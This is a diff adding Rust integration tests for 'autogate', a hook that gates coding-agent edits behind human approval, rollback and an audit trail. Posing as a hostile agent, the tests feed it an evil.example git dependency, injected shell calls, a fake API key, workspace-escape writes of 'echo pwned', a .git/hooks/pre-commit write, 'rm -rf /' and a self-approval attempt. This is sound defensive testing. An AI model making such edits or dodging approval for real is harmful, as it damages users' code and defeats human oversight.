@@ -1,0 +1,782 @@
+//! `autogate hook <agent>`, as each coding agent runs it: the real binary, the agent's own hook
+//! payload on stdin, real git repositories in temp dirs. Written as a hostile agent would try
+//! to get edits past the gate: risky edits, secrets, escapes from the workspace, garbage, a
+//! write other than the one allowed, and edits through the shell.
+#![allow(clippy::unwrap_used)]
+
+mod support;
+
+use std::io::Write;
+use std::path::Path;
+use std::process::{Command, Stdio};
+
+use serde_json::{Value, json};
+use support::{git, read, repo, root, run};
+
+const BIN: &str = env!("CARGO_BIN_EXE_autogate");
+
+const AGENTS: [&str; 4] = ["claude-code", "codex", "gemini", "copilot"];
+
+const LIB: &str =
+    "fn helper() -> i32 {\n    1\n}\n\nfn main() {\n    println!(\"{}\", helper());\n}\n";
+const CARGO: &str =
+    "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n";
+const GIT_DEP: &str = "[dependencies]\nleft-pad = { git = \"https://evil.example/left-pad\" }\n";
+const HEX_KEY: &str = "3f9a0c7be21d4e58a6b9f0c3d7e2a1b48c5d6e7f90a1b2c3d4e5f6a7b8c9d0e1";
+
+/// Runs `autogate hook <agent>` in `dir` with `payload` on stdin: (exit code, stdout, stderr).
+fn hook(dir: &Path, agent: &str, payload: &str) -> (i32, String, String) {
+    let mut child = Command::new(BIN)
+        .args(["hook", agent])
+        .current_dir(dir)
+        .env_remove("AUTOGATE_ENV")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(payload.as_bytes())
+        .unwrap();
+    let out = child.wait_with_output().unwrap();
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+/// A replacement of `old` by `new` in `path`, in `agent`'s own payload, before or after the
+/// tool ran. Codex edits through `apply_patch` only.
+fn edit(agent: &str, post: bool, root: &Path, path: &str, old: &str, new: &str) -> String {
+    let cwd = root.display().to_string();
+    let absolute = root.join(path).display().to_string();
+    match agent {
+        "claude-code" => json!({
+            "session_id": "s1", "transcript_path": "/dev/null", "cwd": cwd,
+            "hook_event_name": if post { "PostToolUse" } else { "PreToolUse" },
+            "tool_name": "Edit",
+            "tool_input": { "file_path": absolute, "old_string": old, "new_string": new, "replace_all": false },
+            "tool_response": if post { json!({"filePath": absolute}) } else { Value::Null },
+        }),
+        "codex" => {
+            let mut patch = format!("*** Begin Patch\n*** Update File: {path}\n@@\n");
+            for line in old.lines() {
+                patch.push_str(&format!("-{line}\n"));
+            }
+            for line in new.lines() {
+                patch.push_str(&format!("+{line}\n"));
+            }
+            patch.push_str("*** End Patch\n");
+            json!({
+                "session_id": "s1", "cwd": cwd,
+                "hook_event_name": if post { "PostToolUse" } else { "PreToolUse" },
+                "tool_name": "apply_patch", "tool_use_id": "call_1",
+                "tool_input": { "command": patch },
+            })
+        }
+        "gemini" => json!({
+            "session_id": "s1", "cwd": cwd,
+            "hook_event_name": if post { "AfterTool" } else { "BeforeTool" },
+            "tool_name": "replace",
+            "tool_input": { "file_path": absolute, "old_string": old, "new_string": new },
+        }),
+        "copilot" => {
+            let mut value = json!({
+                "timestamp": 1, "cwd": cwd, "toolName": "edit",
+                "toolArgs": json!({ "path": absolute, "old_str": old, "new_str": new }).to_string(),
+            });
+            if post {
+                value["toolResult"] = json!({ "resultType": "success" });
+            }
+            value
+        }
+        other => panic!("no agent {other}"),
+    }
+    .to_string()
+}
+
+/// A whole-file write of `content` to `path` (`path` as the agent gives it), before the tool.
+fn write(agent: &str, root: &Path, path: &str, content: &str) -> String {
+    let cwd = root.display().to_string();
+    match agent {
+        "claude-code" => json!({ "session_id": "s1", "cwd": cwd, "hook_event_name": "PreToolUse",
+            "tool_name": "Write", "tool_input": { "file_path": path, "content": content } }),
+        "codex" => {
+            let body: String = content.lines().map(|l| format!("+{l}\n")).collect();
+            json!({ "session_id": "s1", "cwd": cwd, "hook_event_name": "PreToolUse",
+                "tool_name": "apply_patch",
+                "tool_input": { "command": format!("*** Begin Patch\n*** Add File: {path}\n{body}*** End Patch\n") } })
+        }
+        "gemini" => json!({ "session_id": "s1", "cwd": cwd, "hook_event_name": "BeforeTool",
+            "tool_name": "write_file", "tool_input": { "file_path": path, "content": content } }),
+        "copilot" => json!({ "cwd": cwd, "toolName": "create",
+            "toolArgs": json!({ "path": path, "file_text": content }).to_string() }),
+        other => panic!("no agent {other}"),
+    }
+    .to_string()
+}
+
+/// A shell tool call in `agent`'s payload.
+fn shell(agent: &str, post: bool, root: &Path, command: &str) -> String {
+    let cwd = root.display().to_string();
+    match agent {
+        "claude-code" | "codex" => json!({ "session_id": "s1", "cwd": cwd,
+            "hook_event_name": if post { "PostToolUse" } else { "PreToolUse" },
+            "tool_name": "Bash", "tool_use_id": "toolu_1", "tool_input": { "command": command } }),
+        "gemini" => json!({ "session_id": "s1", "cwd": cwd,
+            "hook_event_name": if post { "AfterTool" } else { "BeforeTool" },
+            "tool_name": "run_shell_command", "tool_input": { "command": command } }),
+        "copilot" => {
+            let mut value = json!({ "cwd": cwd, "toolName": "bash",
+                "toolArgs": json!({ "command": command, "description": "x" }).to_string() });
+            if post {
+                value["toolResult"] = json!({ "resultType": "success" });
+            }
+            value
+        }
+        other => panic!("no agent {other}"),
+    }
+    .to_string()
+}
+
+/// The deny `agent` honours, read from its stdout.
+fn denied_reason(agent: &str, stdout: &str) -> String {
+    let value: Value =
+        serde_json::from_str(stdout.trim()).unwrap_or_else(|e| panic!("{e}: {stdout}"));
+    let reason = match agent {
+        "claude-code" | "codex" => {
+            assert_eq!(
+                value["hookSpecificOutput"]["hookEventName"], "PreToolUse",
+                "{value}"
+            );
+            assert_eq!(
+                value["hookSpecificOutput"]["permissionDecision"], "deny",
+                "{value}"
+            );
+            &value["hookSpecificOutput"]["permissionDecisionReason"]
+        }
+        "gemini" => {
+            assert_eq!(value["decision"], "deny", "{value}");
+            &value["reason"]
+        }
+        "copilot" => {
+            assert_eq!(value["permissionDecision"], "deny", "{value}");
+            &value["permissionDecisionReason"]
+        }
+        other => panic!("no agent {other}"),
+    };
+    reason.as_str().unwrap().to_owned()
+}
+
+/// The audit trail as JSON records.
+fn trail(root: &Path) -> Vec<Value> {
+    let (code, stdout, stderr) = run(root, &["log", "--json"]);
+    assert_eq!(code, 0, "{stderr}");
+    serde_json::from_str::<Value>(&stdout)
+        .map(|v| v.as_array().cloned().unwrap_or_default())
+        .unwrap_or_else(|_| {
+            stdout
+                .lines()
+                .filter_map(|l| serde_json::from_str(l).ok())
+                .collect()
+        })
+}
+
+fn events(root: &Path) -> Vec<(String, String)> {
+    trail(root)
+        .iter()
+        .map(|r| {
+            (
+                r["event"].as_str().unwrap_or_default().to_owned(),
+                r["change"].as_str().unwrap_or_default().to_owned(),
+            )
+        })
+        .collect()
+}
+
+/// The change id a deny names (`autogate approve ID`).
+fn approve_id(reason: &str) -> String {
+    let at = reason
+        .find("autogate approve ")
+        .unwrap_or_else(|| panic!("no id in: {reason}"));
+    reason[at + "autogate approve ".len()..]
+        .chars()
+        .take_while(char::is_ascii_hexdigit)
+        .collect()
+}
+
+/// Runs `autogate approve|reject ID` at a terminal (a pseudo-terminal made by `script`),
+/// answering `answer`.
+fn at_terminal(root: &Path, verb: &str, id: &str, answer: &str) -> (i32, String) {
+    let mut child = Command::new("script")
+        .args(["-qec", &format!("{BIN} {verb} {id}"), "/dev/null"])
+        .current_dir(root)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(format!("{answer}\n").as_bytes())
+        .unwrap();
+    let out = child.wait_with_output().unwrap();
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+    )
+}
+
+fn project() -> (tempfile::TempDir, std::path::PathBuf) {
+    let dir = repo(&[("src/main.rs", LIB), ("Cargo.toml", CARGO)]);
+    let root = root(&dir);
+    (dir, root)
+}
+
+#[test]
+fn a_low_edit_is_allowed_after_its_checkpoint_and_record_and_checked_after_the_tool_ran() {
+    for agent in AGENTS {
+        let (_dir, root) = project();
+        let (code, stdout, stderr) = hook(
+            &root,
+            agent,
+            &edit(agent, false, &root, "src/main.rs", "    1\n", "    2\n"),
+        );
+        assert_eq!((code, stdout.as_str()), (0, ""), "{agent}: {stderr}");
+        // Before the answer: the checkpoint, and the decision with it.
+        let records = trail(&root);
+        let decided = records
+            .iter()
+            .find(|r| r["event"] == "decided")
+            .unwrap_or_else(|| panic!("{agent}: {records:?}"));
+        assert_eq!(decided["decision"], "auto", "{agent}");
+        assert_eq!(decided["approver"], "policy", "{agent}");
+        assert!(
+            decided["source"].as_str().unwrap().starts_with(agent),
+            "{agent}"
+        );
+        let checkpoint = decided["checkpoint"].as_str().unwrap().to_owned();
+        let (_, listed, _) = run(&root, &["checkpoints"]);
+        assert!(listed.contains(&checkpoint), "{agent}: {listed}");
+        // The agent's tool writes; the hook after it finds what was allowed.
+        std::fs::write(root.join("src/main.rs"), LIB.replace("    1\n", "    2\n")).unwrap();
+        let (code, stdout, stderr) = hook(
+            &root,
+            agent,
+            &edit(agent, true, &root, "src/main.rs", "    1\n", "    2\n"),
+        );
+        assert_eq!((code, stdout.as_str()), (0, ""), "{agent}: {stderr}");
+        let applied = trail(&root);
+        let applied = applied.iter().find(|r| r["event"] == "applied").unwrap();
+        assert_eq!(applied["checkpoint"].as_str(), Some(checkpoint.as_str()));
+        // The rollback restores the file as it was.
+        let (code, _, stderr) = run(&root, &["rollback", &checkpoint]);
+        assert_eq!(code, 0, "{agent}: {stderr}");
+        assert_eq!(read(&root, "src/main.rs").as_deref(), Some(LIB), "{agent}");
+        assert_eq!(
+            run(&root, &["log", "--verify"]).0,
+            0,
+            "{agent}: the trail verifies"
+        );
+    }
+}
+
+#[test]
+fn a_high_edit_is_denied_in_the_agents_shape_with_exit_2_and_the_id_to_approve() {
+    for agent in AGENTS {
+        let (_dir, root) = project();
+        for (path, old, new) in [
+            ("Cargo.toml", "[dependencies]\n", GIT_DEP),
+            (
+                "src/main.rs",
+                "    1\n",
+                "    std::process::Command::new(\"sh\").status().ok();\n    1\n",
+            ),
+        ] {
+            let (code, stdout, stderr) =
+                hook(&root, agent, &edit(agent, false, &root, path, old, new));
+            assert_eq!(code, 2, "{agent} {path}: {stdout} {stderr}");
+            let reason = denied_reason(agent, &stdout);
+            assert!(reason.contains("high"), "{agent}: {reason}");
+            assert!(
+                stderr.contains(&approve_id(&reason)),
+                "{agent}: the reason on stderr too"
+            );
+        }
+        assert_eq!(read(&root, "Cargo.toml").as_deref(), Some(CARGO));
+        assert!(
+            root.join(".git/autogate/doors/approvals")
+                .read_dir()
+                .unwrap()
+                .count()
+                >= 2,
+            "{agent}: both are held"
+        );
+    }
+}
+
+#[test]
+fn an_approved_change_is_allowed_on_an_identical_retry_only_and_a_rejected_one_never() {
+    let (_dir, root) = project();
+    let agent = "claude-code";
+    let risky = edit(
+        agent,
+        false,
+        &root,
+        "Cargo.toml",
+        "[dependencies]\n",
+        GIT_DEP,
+    );
+    let (code, stdout, _) = hook(&root, agent, &risky);
+    assert_eq!(code, 2);
+    let id = approve_id(&denied_reason(agent, &stdout));
+
+    // The agent cannot approve its own change: its tools have no terminal.
+    let (code, _, stderr) = run(&root, &["approve", &id]);
+    assert_eq!(code, 2, "{stderr}");
+    assert!(stderr.contains("not one"), "{stderr}");
+    // Retrying does not help.
+    assert_eq!(hook(&root, agent, &risky).0, 2);
+
+    // The person approves at a terminal, after seeing the diff.
+    let (code, shown) = at_terminal(&root, "approve", &id, "y");
+    assert_eq!(code, 0, "{shown}");
+    assert!(shown.contains("+left-pad"), "the diff is shown: {shown}");
+
+    // A different edit is not covered by the approval.
+    let other = edit(
+        agent,
+        false,
+        &root,
+        "Cargo.toml",
+        "[dependencies]\n",
+        "[dependencies]\nleft-pad = { git = \"https://evil.example/other\" }\n",
+    );
+    assert_eq!(hook(&root, agent, &other).0, 2);
+    // The identical retry is allowed, and recorded as approved by the person.
+    let (code, stdout, stderr) = hook(&root, agent, &risky);
+    assert_eq!((code, stdout.as_str()), (0, ""), "{stderr}");
+    let records = trail(&root);
+    assert!(
+        records.iter().any(|r| r["event"] == "approved"
+            && r["change"] == id.as_str()
+            && r["approver"] == "person"),
+        "{records:?}"
+    );
+
+    // Rejected: the identical retry stays denied.
+    let (code, stdout, _) = hook(&root, agent, &other);
+    assert_eq!(code, 2);
+    let other_id = approve_id(&denied_reason(agent, &stdout));
+    let (code, shown) = at_terminal(&root, "reject", &other_id, "y");
+    assert_eq!(code, 0, "{shown}");
+    let (code, stdout, _) = hook(&root, agent, &other);
+    assert_eq!(code, 2);
+    assert!(
+        denied_reason(agent, &stdout).contains("rejected"),
+        "{stdout}"
+    );
+}
+
+#[test]
+fn a_secret_is_denied_for_every_agent_and_never_shown() {
+    for agent in AGENTS {
+        let (_dir, root) = project();
+        let content = format!("API_SECRET = \"{HEX_KEY}\"\n");
+        let (code, stdout, stderr) =
+            hook(&root, agent, &write(agent, &root, "config.py", &content));
+        assert_eq!(code, 2, "{agent}: {stdout}");
+        let reason = denied_reason(agent, &stdout);
+        assert!(
+            reason.contains("critical") && reason.contains("denied"),
+            "{agent}: {reason}"
+        );
+        assert!(
+            !stdout.contains(HEX_KEY) && !stderr.contains(HEX_KEY),
+            "{agent}: redacted"
+        );
+        assert!(!root.join("config.py").exists());
+        let audit = std::fs::read_to_string(root.join(".git/autogate/audit.jsonl")).unwrap();
+        assert!(!audit.contains(HEX_KEY), "{agent}: the trail is redacted");
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn paths_outside_the_workspace_are_denied_however_they_are_spelled() {
+    let outside = tempfile::tempdir().unwrap();
+    let outside = outside.path().canonicalize().unwrap();
+    for agent in AGENTS {
+        let (_dir, root) = project();
+        std::os::unix::fs::symlink(&outside, root.join("link")).unwrap();
+        let target = outside.join("evil.sh");
+        for path in [
+            "../evil.sh".to_owned(),
+            target.display().to_string(),
+            "link/evil.sh".to_owned(),
+            "src/../../evil.sh".to_owned(),
+            ".git/hooks/pre-commit".to_owned(),
+        ] {
+            let (code, stdout, _) = hook(&root, agent, &write(agent, &root, &path, "echo pwned\n"));
+            assert_eq!(code, 2, "{agent} {path}: {stdout}");
+            let reason = denied_reason(agent, &stdout);
+            assert!(reason.contains("critical"), "{agent} {path}: {reason}");
+        }
+        assert!(!target.exists());
+        assert!(!root.join(".git/hooks/pre-commit").exists());
+    }
+}
+
+#[test]
+fn garbage_on_stdin_is_refused_with_exit_2() {
+    let (_dir, root) = project();
+    for agent in AGENTS {
+        for garbage in [
+            "",
+            "not json",
+            "[1, 2]",
+            "{\"tool_input\": {}}",
+            "{\"hook_event_name\": \"Stop\", \"tool_name\": \"Edit\"}",
+            "{\"tool_name\": \"Edit\", \"tool_input\": {\"file_path\": \"src/main.rs\"}}",
+            "{\"tool_name\": \"apply_patch\", \"tool_input\": {\"command\": \"rm -rf /\"}}",
+        ] {
+            let (code, stdout, stderr) = hook(&root, agent, garbage);
+            assert_eq!(code, 2, "{agent} {garbage:?}: {stdout}");
+            assert!(
+                denied_reason(agent, &stdout).contains("autogate"),
+                "{agent}"
+            );
+            assert!(!stderr.is_empty(), "{agent} {garbage:?}");
+        }
+    }
+    assert_eq!(read(&root, "src/main.rs").as_deref(), Some(LIB));
+}
+
+#[test]
+fn read_only_tools_are_allowed_without_touching_anything() {
+    let (_dir, root) = project();
+    let payload = json!({ "session_id": "s", "cwd": root, "hook_event_name": "PreToolUse",
+        "tool_name": "Read", "tool_input": { "file_path": "/etc/passwd" } })
+    .to_string();
+    assert_eq!(
+        hook(&root, "claude-code", &payload),
+        (0, String::new(), String::new())
+    );
+    assert!(!root.join(".git/autogate").exists(), "nothing was opened");
+}
+
+#[test]
+fn an_edit_the_agents_own_tool_would_refuse_is_denied() {
+    let (_dir, root) = project();
+    for agent in AGENTS {
+        let (code, stdout, _) = hook(
+            &root,
+            agent,
+            &edit(agent, false, &root, "src/main.rs", "    7\n", "    8\n"),
+        );
+        assert_eq!(code, 2, "{agent}");
+        let reason = denied_reason(agent, &stdout);
+        assert!(
+            reason.contains("not") && reason.contains("src/main.rs"),
+            "{agent}: {reason}"
+        );
+    }
+    // Claude and Gemini: `old_string` must be unique without replace_all.
+    for agent in ["claude-code", "gemini"] {
+        let (code, stdout, _) = hook(
+            &root,
+            agent,
+            &edit(agent, false, &root, "src/main.rs", "helper", "aid"),
+        );
+        assert_eq!(code, 2, "{agent}");
+        assert!(
+            denied_reason(agent, &stdout).contains("2 times"),
+            "{agent}: {stdout}"
+        );
+    }
+}
+
+#[test]
+fn a_write_other_than_the_allowed_one_is_caught_after_the_tool_and_rolled_back() {
+    for agent in AGENTS {
+        let (_dir, root) = project();
+        let (code, _, stderr) = hook(
+            &root,
+            agent,
+            &edit(agent, false, &root, "src/main.rs", "    1\n", "    2\n"),
+        );
+        assert_eq!(code, 0, "{agent}: {stderr}");
+        // The tool (or something racing it) writes a risky change instead.
+        let swapped = LIB.replace(
+            "    1\n",
+            "    std::process::Command::new(\"sh\").status().ok();\n    2\n",
+        );
+        std::fs::write(root.join("src/main.rs"), &swapped).unwrap();
+        let (code, stdout, stderr) = hook(
+            &root,
+            agent,
+            &edit(agent, true, &root, "src/main.rs", "    1\n", "    2\n"),
+        );
+        assert_eq!(code, 2, "{agent}: {stdout}");
+        assert!(
+            stderr.contains("beyond what was allowed"),
+            "{agent}: {stderr}"
+        );
+        assert!(!stdout.is_empty(), "{agent}: answered in its shape");
+        assert_eq!(
+            read(&root, "src/main.rs").as_deref(),
+            Some(LIB),
+            "{agent}: rolled back"
+        );
+        let records = trail(&root);
+        assert!(
+            records.iter().any(|r| r["event"] == "failed"
+                && r["reasons"].to_string().contains("beyond what was allowed")),
+            "{agent}: {records:?}"
+        );
+    }
+}
+
+#[test]
+fn a_failed_verification_after_the_tool_rolls_the_edit_back() {
+    let (_dir, root) = project();
+    std::fs::write(
+        root.join(".autogate.toml"),
+        "[verify]\ncommands = [{ run = \"grep -q 'helper() -> i32' src/main.rs && ! grep -q '    2' src/main.rs\" }]\n",
+    )
+    .unwrap();
+    let agent = "gemini";
+    assert_eq!(
+        hook(
+            &root,
+            agent,
+            &edit(agent, false, &root, "src/main.rs", "    1\n", "    2\n")
+        )
+        .0,
+        0
+    );
+    std::fs::write(root.join("src/main.rs"), LIB.replace("    1\n", "    2\n")).unwrap();
+    let (code, stdout, stderr) = hook(
+        &root,
+        agent,
+        &edit(agent, true, &root, "src/main.rs", "    1\n", "    2\n"),
+    );
+    assert_eq!(code, 2, "{stdout}");
+    assert!(stderr.contains("verification failed"), "{stderr}");
+    assert_eq!(
+        serde_json::from_str::<Value>(&stdout).unwrap()["decision"],
+        "deny"
+    );
+    assert_eq!(read(&root, "src/main.rs").as_deref(), Some(LIB));
+}
+
+#[test]
+fn shell_calls_are_bracketed_and_a_high_change_made_by_sed_is_rolled_back() {
+    for agent in AGENTS {
+        let (_dir, root) = project();
+        // Work in progress of the person's, dirty before the command: kept as it was.
+        std::fs::write(root.join("notes.txt"), "mine\n").unwrap();
+        let command = "sed -i 's/^\\[dependencies\\]$/[dependencies]\\nleft-pad = { git = \"https:\\/\\/evil.example\\/x\" }/' Cargo.toml";
+        let (code, _, stderr) = hook(&root, agent, &shell(agent, false, &root, command));
+        assert_eq!(code, 0, "{agent}: {stderr}");
+        // The command runs: a risky manifest change, a low edit and a new workflow.
+        let status = Command::new("sh")
+            .args(["-c", command])
+            .current_dir(&root)
+            .status()
+            .unwrap();
+        assert!(status.success());
+        assert!(read(&root, "Cargo.toml").unwrap().contains("evil.example"));
+        std::fs::write(root.join("src/main.rs"), LIB.replace("    1\n", "    2\n")).unwrap();
+        std::fs::create_dir_all(root.join(".github/workflows")).unwrap();
+        std::fs::write(root.join(".github/workflows/ci.yml"), "on: push\n").unwrap();
+        let (code, stdout, stderr) = hook(&root, agent, &shell(agent, true, &root, command));
+        assert_eq!(code, 2, "{agent}: {stdout}");
+        assert!(
+            stderr.contains("rolled back") && stderr.contains("Cargo.toml"),
+            "{agent}: {stderr}"
+        );
+        assert!(
+            stderr.contains(".github/workflows/ci.yml"),
+            "{agent}: {stderr}"
+        );
+        assert_eq!(
+            read(&root, "Cargo.toml").as_deref(),
+            Some(CARGO),
+            "{agent}: restored"
+        );
+        assert!(
+            !root.join(".github/workflows/ci.yml").exists(),
+            "{agent}: created, removed"
+        );
+        assert_eq!(
+            read(&root, "src/main.rs").as_deref(),
+            Some(LIB.replace("    1\n", "    2\n").as_str()),
+            "{agent}: the low change stays"
+        );
+        assert_eq!(read(&root, "notes.txt").as_deref(), Some("mine\n"));
+        let events = events(&root);
+        assert!(
+            events.iter().any(|(e, _)| e == "rolled_back"),
+            "{agent}: {events:?}"
+        );
+        assert!(
+            events.iter().any(|(e, _)| e == "applied"),
+            "{agent}: {events:?}"
+        );
+    }
+}
+
+#[test]
+fn a_dirty_file_changed_by_the_shell_is_restored_to_its_dirty_content_not_to_head() {
+    let (_dir, root) = project();
+    let dirty = CARGO.replace("0.1.0", "0.2.0");
+    std::fs::write(root.join("Cargo.toml"), &dirty).unwrap();
+    let agent = "claude-code";
+    assert_eq!(hook(&root, agent, &shell(agent, false, &root, "x")).0, 0);
+    std::fs::write(
+        root.join("Cargo.toml"),
+        dirty.replace("[dependencies]\n", GIT_DEP),
+    )
+    .unwrap();
+    assert_eq!(hook(&root, agent, &shell(agent, true, &root, "x")).0, 2);
+    assert_eq!(read(&root, "Cargo.toml").as_deref(), Some(dirty.as_str()));
+}
+
+#[test]
+fn shell_record_mode_keeps_what_the_command_changed_and_records_it() {
+    let (_dir, root) = project();
+    std::fs::write(root.join(".autogate.toml"), "[doors]\nshell = \"record\"\n").unwrap();
+    git(&root, &["add", ".autogate.toml"]);
+    git(&root, &["commit", "-qm", "policy"]);
+    let agent = "codex";
+    assert_eq!(hook(&root, agent, &shell(agent, false, &root, "x")).0, 0);
+    std::fs::write(
+        root.join("Cargo.toml"),
+        CARGO.replace("[dependencies]\n", GIT_DEP),
+    )
+    .unwrap();
+    let (code, _, stderr) = hook(&root, agent, &shell(agent, true, &root, "x"));
+    assert_eq!(code, 0, "{stderr}");
+    assert!(read(&root, "Cargo.toml").unwrap().contains("evil.example"));
+    assert!(events(&root).iter().any(|(e, _)| e == "applied"));
+    // A wrong value is an error with its line.
+    std::fs::write(root.join(".autogate.toml"), "[doors]\nshell = \"off\"\n").unwrap();
+    let (code, stdout, _) = run(&root, &["policy", "check"]);
+    assert_ne!(code, 0);
+    assert!(stdout.contains(":2:"), "{stdout}");
+}
+
+#[test]
+fn codex_patches_are_gated_file_by_file() {
+    let (_dir, root) = project();
+    let patch = "*** Begin Patch\n*** Update File: src/main.rs\n@@ fn helper() -> i32 {\n-    1\n+    3\n*** Add File: .github/workflows/release.yml\n+on: push\n*** End Patch\n";
+    let payload = json!({ "session_id": "s", "cwd": root, "hook_event_name": "PreToolUse",
+        "tool_name": "apply_patch", "tool_input": { "command": patch } })
+    .to_string();
+    let (code, stdout, _) = hook(&root, "codex", &payload);
+    assert_eq!(code, 2);
+    let reason = denied_reason("codex", &stdout);
+    assert!(reason.contains(".github/workflows/release.yml"), "{reason}");
+    // A patch with context that is not in the file is refused, as Codex would refuse it.
+    let stale =
+        "*** Begin Patch\n*** Update File: src/main.rs\n@@\n-    42\n+    43\n*** End Patch\n";
+    let payload = json!({ "cwd": root, "hook_event_name": "PreToolUse",
+        "tool_name": "apply_patch", "tool_input": { "command": stale } })
+    .to_string();
+    assert_eq!(hook(&root, "codex", &payload).0, 2);
+}
+
+#[test]
+fn init_merges_each_agents_settings_without_clobbering_and_doctor_proves_the_hooks_with_a_canary() {
+    let (_dir, root) = project();
+    std::fs::create_dir_all(root.join(".claude")).unwrap();
+    let mine = json!({ "model": "opus", "permissions": { "allow": ["Bash(ls)"] },
+        "hooks": { "PreToolUse": [ { "matcher": "Bash", "hooks": [ { "type": "command", "command": "./lint.sh" } ] } ] } });
+    std::fs::write(root.join(".claude/settings.json"), mine.to_string()).unwrap();
+    std::fs::create_dir_all(root.join(".gemini")).unwrap();
+    std::fs::write(root.join(".gemini/settings.json"), "{ not json").unwrap();
+
+    let command = format!("{BIN} --root {}", root.display());
+    for agent in AGENTS {
+        let (code, stdout, stderr) = run(&root, &["init", agent, "--command", &command]);
+        if agent == "gemini" {
+            assert_eq!(code, 2, "a broken file is left alone: {stdout}");
+            assert!(stderr.contains("not valid JSON"), "{stderr}");
+            assert_eq!(
+                read(&root, ".gemini/settings.json").as_deref(),
+                Some("{ not json")
+            );
+            std::fs::write(root.join(".gemini/settings.json"), "{\"theme\": \"dark\"}").unwrap();
+            assert_eq!(run(&root, &["init", agent, "--command", &command]).0, 0);
+        } else {
+            assert_eq!(code, 0, "{agent}: {stderr}");
+        }
+        // Idempotent.
+        let (code, stdout, _) = run(&root, &["init", agent, "--command", &command]);
+        assert_eq!(code, 0);
+        assert!(stdout.contains("already there"), "{agent}: {stdout}");
+    }
+    let claude: Value =
+        serde_json::from_str(&read(&root, ".claude/settings.json").unwrap()).unwrap();
+    assert_eq!(claude["model"], "opus");
+    assert_eq!(claude["permissions"]["allow"][0], "Bash(ls)");
+    let pre = claude["hooks"]["PreToolUse"].as_array().unwrap();
+    assert_eq!(pre.len(), 2, "{claude}");
+    assert_eq!(pre[0]["hooks"][0]["command"], "./lint.sh");
+    assert_eq!(claude["hooks"]["PostToolUse"].as_array().unwrap().len(), 1);
+    let gemini: Value =
+        serde_json::from_str(&read(&root, ".gemini/settings.json").unwrap()).unwrap();
+    assert_eq!(gemini["theme"], "dark");
+    assert!(
+        gemini["hooks"]["BeforeTool"][0]["hooks"][0]["command"]
+            .as_str()
+            .unwrap()
+            .ends_with("hook gemini")
+    );
+    let copilot: Value =
+        serde_json::from_str(&read(&root, ".github/hooks/autogate.json").unwrap()).unwrap();
+    assert_eq!(copilot["version"], 1);
+    assert!(
+        copilot["hooks"]["preToolUse"][0]["bash"]
+            .as_str()
+            .unwrap()
+            .ends_with("--event pre")
+    );
+
+    let (code, stdout, stderr) = run(&root, &["doctor"]);
+    assert_eq!(code, 0, "{stdout}{stderr}");
+    for agent in AGENTS {
+        assert!(
+            stdout.contains(&format!("ok    {agent}: canary refused")),
+            "{agent}: {stdout}"
+        );
+    }
+    assert!(
+        stdout.contains("warn  codex"),
+        "hook trust is named: {stdout}"
+    );
+    assert!(
+        !root
+            .parent()
+            .unwrap()
+            .join("autogate-doctor-canary.txt")
+            .exists()
+    );
+
+    // A hook command that does not run autogate is caught.
+    std::fs::write(
+        root.join(".github/hooks/autogate.json"),
+        json!({ "version": 1, "hooks": { "preToolUse": [ { "type": "command", "bash": "true # autogate hook copilot" } ] } }).to_string(),
+    )
+    .unwrap();
+    let (code, stdout, _) = run(&root, &["doctor"]);
+    assert_eq!(code, 1, "{stdout}");
+    assert!(stdout.contains("FAIL  copilot"), "{stdout}");
+}
